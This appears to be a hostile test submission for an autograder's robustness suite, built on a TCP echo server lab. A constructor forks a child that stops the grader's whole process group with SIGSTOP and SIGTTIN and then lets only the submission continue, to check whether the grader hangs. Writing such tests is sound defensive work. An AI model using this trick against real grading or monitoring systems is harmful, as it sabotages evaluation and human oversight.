/* hostile: A child stops the whole process group that its parent was born
       into, then lets only that parent go on.
   lab: 11-tcp-echo-server
   earns: all
   verdict: -
   must-not: a grader error, or a grading that waits for ever
*/
#include <signal.h>
#include <sys/wait.h>
#include "../../pwned.h"

static void attack(void) __attribute__((constructor));

static void stop_and_go(pid_t parent, pid_t group)
{
    setpgid(0, 0);
    kill(-group, SIGSTOP);
    kill(-group, SIGTTIN);
    kill(parent, SIGCONT);
    _exit(0);
}

static void attack(void)
{
    pid_t parent = getpid(), group = getpgrp(), child;

    /* A group whose number is 0 has its leader outside. */
    if (!in_a_box())
        return;
    child = fork();
    if (child == 0)
        stop_and_go(parent, group);
    waitpid(child, NULL, 0);
}

#include "../../../../../solutions/11-tcp-echo-server/tcp_echo_server.c"
